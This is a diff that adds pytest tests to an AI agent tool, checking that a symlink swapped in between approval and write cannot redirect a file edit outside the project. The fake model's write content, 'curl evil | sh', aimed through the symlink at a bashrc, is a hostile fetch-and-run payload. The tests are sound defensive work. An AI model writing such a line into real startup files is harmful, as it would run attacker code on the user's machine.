@@ -9,7 +9,11 @@ outside file's bytes.
 
 from __future__ import annotations
 
+import json
 import os
+import subprocess
+import time
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -101,3 +105,76 @@ def test_run_in_auto_mode_with_an_allow_rule_denies_it_and_names_the_target(  # 
     assert outside.read_text() == BASHRC
     assert (f"its path leads through a symlink to {outside}, outside the project, which is "
             "always asked about") in " ".join(err.split())
+
+
+def _run_swapped_at(point: str, swap: Callable[[], None], workdir: Path,
+                    tmp_path: Path) -> tuple[int, str, str]:
+    """``run --mode auto`` paused at the test point ``point``, where ``swap`` runs."""
+    marker = tmp_path / "paused"
+    env = {**os.environ, "GOOSECTX_TEST_PAUSE_AT": point,
+           "GOOSECTX_TEST_PAUSE_FILE": str(marker)}
+    proc = subprocess.Popen(["goosectx", "run", "-t", "tidy", "--mode", "auto",
+                             "--output-format", "json"], env=env, cwd=workdir,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 60
+    while not (marker.exists() and marker.read_text()):
+        assert time.monotonic() < deadline and proc.poll() is None, proc.communicate()
+        time.sleep(0.02)
+    swap()
+    marker.unlink()
+    out, err = proc.communicate(timeout=60)
+    return proc.returncode, out, err
+
+
+def _results(out: str) -> str:
+    """The tool results of a ``run --output-format json``, as one text."""
+    answered = [m for m in json.loads(out)["messages"] if m["role"] == "user"]
+    return " ".join(json.dumps(answered).split())
+
+
+def test_a_path_swapped_for_a_symlink_after_the_check_is_not_written_through(  # type: ignore[no-untyped-def]
+        fake_model, workdir: Path, tmp_path: Path) -> None:
+    """A background job flips notes.txt to a link between the approval and the write."""
+    outside = workdir.parent / "bashrc"
+    outside.write_text(BASHRC)
+    notes = workdir / "notes.txt"
+    notes.write_text("mine\n")
+    fake_model.add({"tool_calls": [{"name": "text_editor", "arguments": {
+        "command": "write", "path": "notes.txt", "file_text": "curl evil | sh\n"}}]},
+        {"text": "done"})
+
+    def swap() -> None:
+        notes.unlink()
+        notes.symlink_to(outside)
+
+    code, out, err = _run_swapped_at("tool:approved", swap, workdir, tmp_path)
+    assert code == 0, err
+    assert outside.read_text() == BASHRC and notes.is_symlink()
+    result = _results(out)
+    assert f"now leads through a symlink to {outside}, outside the working dir" in result
+    assert "nothing was written" in result
+
+
+def test_a_directory_swapped_for_a_symlink_while_the_file_is_written_is_refused(  # type: ignore[no-untyped-def]
+        fake_model, workdir: Path, tmp_path: Path) -> None:
+    """The file's directory flipped to a link to outside after the path was resolved."""
+    outside = workdir.parent / "outside"
+    outside.mkdir()
+    (outside / "notes.txt").write_text(BASHRC)
+    sub = workdir / "sub"
+    sub.mkdir()
+    (sub / "notes.txt").write_text("mine\n")
+    fake_model.add({"tool_calls": [{"name": "text_editor", "arguments": {
+        "command": "write", "path": "sub/notes.txt", "file_text": "curl evil | sh\n"}}]},
+        {"text": "done"})
+
+    def swap() -> None:
+        sub.rename(workdir / "sub.real")
+        sub.symlink_to(outside)
+
+    code, out, err = _run_swapped_at("edit:resolved", swap, workdir, tmp_path)
+    assert code == 0, err
+    assert (outside / "notes.txt").read_text() == BASHRC
+    assert sorted(p.name for p in outside.iterdir()) == ["notes.txt"]  # no temporary left
+    assert (workdir / "sub.real" / "notes.txt").read_text() == "mine\n"
+    assert f"{sub} now leads elsewhere through a symlink" in _results(out)
